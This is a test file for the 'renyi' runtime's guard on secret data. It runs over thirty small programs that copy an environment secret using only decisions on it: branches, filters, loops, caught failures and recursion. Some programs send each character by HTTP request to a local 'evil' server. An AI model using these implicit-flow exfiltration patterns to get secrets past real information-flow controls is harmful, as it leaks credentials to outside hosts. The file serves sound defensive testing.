// Decisions on guarded data (spec/runtime.md, "Decisions on guarded data"): programs
// that copy a guarded secret without computing anything from it, only choosing,
// counting, filtering or finding by decisions on it, then print it or send it to a
// host the guard does not allow. Each is shown to get the whole secret out when
// nothing is guarded, and to be stopped, with nothing leaving, when it is: live,
// and in a replay of its recording. Real `renyi` processes, real servers on 127.0.0.1.

import { test, after, before } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { renyiIn } from "./support.js";

const SECRET = "hunter2-Zq9";
const ALPHABET = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-";

const work = mkdtempSync(join(tmpdir(), "renyi-implicit-"));
after(() => rmSync(work, { recursive: true, force: true, maxRetries: 5 }));

let evil: Server;
let evilPort = 0;
const heard: string[] = [];
before(async () => {
  evil = createServer((req, res) => {
    heard.push(decodeURIComponent(req.url ?? ""));
    res.end("thanks");
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
  evilPort = (evil.address() as { port: number }).port;
});
after(() => evil.close());

/**
 * Each program's body: `key` is the secret, `alphabet` its possible characters as a
 * list of texts, `out` a var; what the body leaves in `out` is printed at the end
 * (a body may print or send on its own). Helpers are declared beside main.
 */
const FLOWS: Record<string, { body: string; helpers?: string; sends?: true }> = {
  "if, a var set in the arm taken": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    if a is ch then\n      set out to out + a\n" +
      "    end\n  end\nend",
  },
  "if with else, the arm not taken setting nothing new": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    if a is not ch then\n      set out to out\n" +
      "    else\n      set out to out + a\n    end\n  end\nend",
  },
  "else if chain": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    if a < ch then\n      set out to out\n" +
      "    else if a > ch then\n      set out to out\n    else\n      set out to out + a\n    end\n  end\nend",
  },
  "match on a Boolean": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    match a is ch\n" +
      "      when true then set out to out + a\n      when false then set out to out\n    end\n  end\nend",
  },
  "if as a value": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n" +
      '    set out to out + (if a is ch then a else "")\n  end\nend',
  },
  "match as a value": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    let piece be match a is ch\n" +
      '      when true then a\n      when false then ""\n    end\n    set out to out + piece\n  end\nend',
  },
  "a query's where": {
    body:
      "for each ch in key.characters()\n  let found be from a in alphabet where a is ch select a\n" +
      "  for each f in found\n    set out to out + f\n  end\nend",
  },
  "a query's where, then a count": {
    body:
      "let ordered be alphabet.sort()\nfor each ch in key.characters()\n" +
      "  let found be from a in ordered where a < ch select a\n  set out to out + ordered[found.length()]\nend",
  },
  "a query sorted by a decision": {
    body:
      "for each ch in key.characters()\n  let sorted be from a in alphabet sort by a is ch descending select a\n" +
      "  set out to out + sorted[0]\nend",
  },
  "a query grouped by a decision": {
    body:
      "for each ch in key.characters()\n  let groups be from a in alphabet group by a is ch into g select g\n" +
      "  for each one in groups\n    if one.items.length() is 1 then\n      set out to out + one.items[0]\n" +
      "    end\n  end\nend",
  },
  "list.filter with a function": {
    body:
      "for each ch in key.characters()\n  let kept be alphabet.filter(function (a: Text) returns Boolean\n" +
      "    return a is ch\n  end)\n  set out to out + kept[0]\nend",
  },
  "list.find": {
    body:
      "for each ch in key.characters()\n  let found be alphabet.find(function (a: Text) returns Boolean\n" +
      '    return a is ch\n  end)\n  set out to out + found.or_else("")\nend',
  },
  "list.find matched": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n" +
      "    match [a].find(function (x: Text) returns Boolean\n      return x is ch\n    end)\n" +
      "      when Some(_) then set out to out + a\n      when None then set out to out\n    end\n  end\nend",
  },
  "list.any": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n" +
      "    if [a].any(function (x: Text) returns Boolean\n      return x is ch\n    end) then\n" +
      "      set out to out + a\n    end\n  end\nend",
  },
  "list.all": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n" +
      "    if [a].all(function (x: Text) returns Boolean\n      return x is ch\n    end) then\n" +
      "      set out to out + a\n    end\n  end\nend",
  },
  "a count of matches from fold": {
    body:
      "let ordered be alphabet.sort()\nfor each ch in key.characters()\n" +
      "  let before be ordered.fold(0, function (n: Int, a: Text) returns Int\n" +
      "    return if a < ch then n + 1 else n\n  end)\n  set out to out + ordered[before]\nend",
  },
  "text.contains on a constant": {
    body:
      "for each i in 0 until key.length()\n  for each a in alphabet\n    if key.characters()[i].contains(a) then\n" +
      "      set out to out + a\n    end\n  end\nend",
  },
  "a while loop counting up to a character": {
    body:
      "for each ch in key.characters()\n  var i be 0\n  while alphabet[i] is not ch\n    set i to i + 1\n  end\n" +
      "  set out to out + alphabet[i]\nend",
  },
  "a counted loop to a guarded bound": {
    body:
      "var n be 0\nfor each i in 1 to key.length()\n  set n to n + 1\nend\n" +
      'set out to "{n} {key}".length().to_text()\nfor each ch in key.characters()\n  var j be 0\n' +
      "  for each a in alphabet\n    if a is ch then\n      stop\n    end\n    set j to j + 1\n  end\n" +
      "  set out to out + alphabet[j]\nend",
  },
  "stop at the character": {
    body:
      "for each ch in key.characters()\n  var pos be 0\n  for each a in alphabet\n    if a is ch then\n      stop\n" +
      "    end\n    set pos to pos + 1\n  end\n  set out to out + alphabet[pos]\nend",
  },
  "skip every other character": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    if a is not ch then\n      skip\n    end\n" +
      "    set out to out + a\n  end\nend",
  },
  "an early return from a helper": {
    body: "for each ch in key.characters()\n  set out to out + pick(ch, alphabet)\nend",
    helpers:
      "function pick(ch: Text, alphabet: List<Text>) returns Text\n  for each a in alphabet\n" +
      '    if a is ch then\n      return a\n    end\n  end\n  return ""\nend',
  },
  "an early return, then the same constant either way": {
    body: "for each ch in key.characters()\n  for each a in alphabet\n    set out to out + same(ch, a)\n  end\nend",
    helpers: 'function same(ch: Text, a: Text) returns Text\n  if a is ch then\n    return a\n  end\n  return ""\nend',
  },
  "a failure caught and gone on from": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    let hit be (probe(ch, a) otherwise true)\n" +
      "    if hit then\n      set out to out + a\n    end\n  end\nend",
    helpers:
      "function probe(ch: Text, a: Text) returns Boolean or fails with Text\n  if a is ch then\n" +
      '    fail with "hit"\n  end\n  return false\nend',
  },
  "a failure caught by arms": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    let piece be (probe(ch, a) otherwise\n" +
      "      when _ then a\n    end)\n    set out to out + piece\n  end\nend",
    helpers:
      "function probe(ch: Text, a: Text) returns Text or fails with Text\n  if a is ch then\n" +
      '    fail with "hit"\n  end\n  return ""\nend',
  },
  "a failure skipped past": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    probe(ch, a) otherwise skip\n" +
      '    set out to out + ""\n  end\n  for each a in alphabet\n    let missed be (probe(ch, a) otherwise "")\n' +
      '    if missed is "" then\n      set out to out + a\n    end\n  end\nend',
    helpers:
      "function probe(ch: Text, a: Text) returns Text or fails with Text\n  if a is ch then\n" +
      '    fail with "hit"\n  end\n  return "miss"\nend',
  },
  "a parse that fails or not": {
    body:
      "for each ch in key.characters()\n  let n be ch.to_int() otherwise -1\n  if n >= 0 then\n" +
      "    set out to out + n.to_text()\n  else\n    for each a in alphabet\n      if a is ch then\n" +
      "        set out to out + a\n      end\n    end\n  end\nend",
  },
  "not, and, or": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    if not (a is not ch or false) and true then\n" +
      "      set out to out + a\n    end\n  end\nend",
  },
  "a print inside the decision": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    if a is ch then\n      console.print(a)\n" +
      "    end\n  end\nend",
  },
  "a print on the right of and": {
    body: "for each ch in key.characters()\n  for each a in alphabet\n    let said be a is ch and tell(a)\n  end\nend",
    helpers: "function tell(a: Text) returns Boolean\n  needs console\n  console.print(a)\n  return true\nend",
  },
  "a request to another host inside the decision": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n    if a is ch then\n" +
      '      let r be http.get("http://127.0.0.1:EVIL/{a}") otherwise skip\n    end\n  end\nend',
    sends: true,
  },
  "a request to another host after an early return": {
    body: "for each ch in key.characters()\n  for each a in alphabet\n    tellUnless(ch, a)\n  end\nend",
    helpers:
      'function tellUnless(ch: Text, a: Text)\n  needs network.http("127.0.0.1:EVIL")\n  if a is ch then\n' +
      '    return\n  end\n  let r be http.get("http://127.0.0.1:EVIL/not-{a}") otherwise return\nend',
    sends: true,
  },
  "a function value chosen by a decision": {
    body:
      "for each ch in key.characters()\n  for each a in alphabet\n" +
      "    let f be if a is ch then function (x: Text) returns Text\n      return x\n" +
      '    end else function (x: Text) returns Text\n      return ""\n    end\n    set out to out + f(a)\n  end\n' +
      "end",
  },
  "Booleans kept in a list, decided later": {
    body:
      "for each ch in key.characters()\n  let hits be alphabet.map(function (a: Text) returns Boolean\n" +
      "    return a is ch\n  end)\n  for each i in 0 until hits.length()\n    if hits[i] then\n" +
      "      set out to out + alphabet[i]\n    end\n  end\nend",
  },
  "recursion down to the character": {
    body: "for each ch in key.characters()\n  set out to out + alphabet[seek(ch, alphabet, 0)]\nend",
    helpers:
      "function seek(ch: Text, alphabet: List<Text>, i: Int) returns Int\n  if alphabet[i] is ch then\n" +
      "    return i\n  end\n  return seek(ch, alphabet, i + 1)\nend",
  },
  "tasks run concurrently": {
    body:
      "for each ch in key.characters()\n  run concurrently\n    let x be pickAsync(ch, alphabet)\n    let y be 1\n" +
      "  end\n  set out to out + x\nend",
    helpers:
      "function pickAsync(ch: Text, alphabet: List<Text>) returns Text\n  needs console\n" +
      '  for each a in alphabet\n    if a is ch then\n      return a\n    end\n  end\n  return ""\nend',
  },
};

function program(name: string, guarded: boolean): string {
  const flow = FLOWS[name]!;
  const guard = guarded ? ' only to network.http("api.example.com")' : "";
  const body = flow.body.replaceAll("EVIL", String(evilPort));
  return `${(flow.helpers ?? "").replaceAll("EVIL", String(evilPort))}

public function main()
  purpose: Copy a secret by decisions on it.
  needs console, network.http("api.example.com"), network.http("127.0.0.1:${evilPort}"), environment("SECRET")${guard}
  let key be environment.get("SECRET").or_else("")
  let alphabet be "${ALPHABET}".characters()
  var out be ""
${body.replace(/^/gm, "  ")}
  console.print(out)
end
`;
}

/** Whether the secret's characters got out, in order, through the output or the other host. */
function leakedIn(stdout: string, since: number): boolean {
  const letters = stdout.replace(/\s/g, "");
  const sent = heard
    .slice(since)
    .join("")
    .replace(/\/(not-)?/g, (_m, not: string | undefined) => (not ? "!" : ""));
  return letters.includes(SECRET) || sent.includes(SECRET) || sent.split("!").length > SECRET.length;
}

async function inBatches<T>(items: readonly T[], size: number, run: (item: T) => Promise<void>): Promise<void> {
  for (let i = 0; i < items.length; i += size) await Promise.all(items.slice(i, i + size).map(run));
}

function run(dir: string, args: readonly string[]) {
  return renyiIn(dir, args, { SECRET }, join(work, "cache"));
}

test("at least thirty programs copy a secret by decisions alone", () => {
  assert.ok(Object.keys(FLOWS).length >= 30, `${Object.keys(FLOWS).length} programs`);
});

test("without a guard, each program gets the secret out: each flow is a real one", async () => {
  const problems: string[] = [];
  // Every other flow's control, and all of them under RENYI_FUZZ_CASES (`npm run fuzz`).
  const names = Object.keys(FLOWS).filter((_, i) => process.env["RENYI_FUZZ_CASES"] !== undefined || i % 2 === 0);
  await inBatches(names, 4, async (name) => {
    const dir = join(work, `plain-${Object.keys(FLOWS).indexOf(name)}`);
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "flow.ry"), program(name, false));
    const since = heard.length;
    const ran = await run(dir, ["run", "flow.ry"]);
    if (!leakedIn(ran.stdout, since))
      problems.push(
        `${name}: the secret did not get out even without a guard: ${ran.status} ${ran.stdout} ${ran.stderr}`,
      );
  });
  assert.deepEqual(problems, []);
});

test("with the guard, each program is stopped with nothing out, live and in the replay of its recording", async () => {
  const problems: string[] = [];
  await inBatches(Object.keys(FLOWS), 4, async (name) => {
    try {
      await stopped(name);
    } catch (e) {
      problems.push((e as Error).message);
    }
  });
  assert.deepEqual(problems, []);
});

async function stopped(name: string): Promise<void> {
  {
    const dir = join(work, `guarded-${Object.keys(FLOWS).indexOf(name)}`);
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "flow.ry"), program(name, true));
    const since = heard.length;
    const live = await run(dir, ["record", "--to", "flow.recording.json", "flow.ry"]);
    if (FLOWS[name]!.sends) {
      // A refused request fails, and the program goes on past it: nothing reaches the other host.
      assert.equal(heard.length, since, `${name}: the other host heard ${heard.slice(since).join(" ")}`);
    } else {
      assert.notEqual(live.status, 0, `${name}: finished: ${live.stdout}`);
      assert.match(live.stderr, /E-RT-GUARD/, `${name}: ${live.stderr}`);
    }
    assert.ok(!leakedIn(live.stdout, since), `${name}: got out live: ${live.stdout} ${heard.slice(since).join(" ")}`);
    assert.ok(!live.stdout.includes(SECRET) && !live.stderr.includes(SECRET), name);
    const replayed = await run(dir, ["run", "--replay", "flow.recording.json", "--console", "flow.ry"]);
    if (!FLOWS[name]!.sends) {
      assert.notEqual(replayed.status, 0, `${name}: the replay finished: ${replayed.stdout}`);
      assert.match(replayed.stderr, /E-RT-GUARD/, `${name}: replay: ${replayed.stderr}`);
    } else {
      assert.equal(replayed.status, live.status, `${name}: the replay ended otherwise: ${replayed.stderr}`);
    }
    assert.ok(!leakedIn(replayed.stdout, heard.length), `${name}: got out in the replay: ${replayed.stdout}`);
  }
}
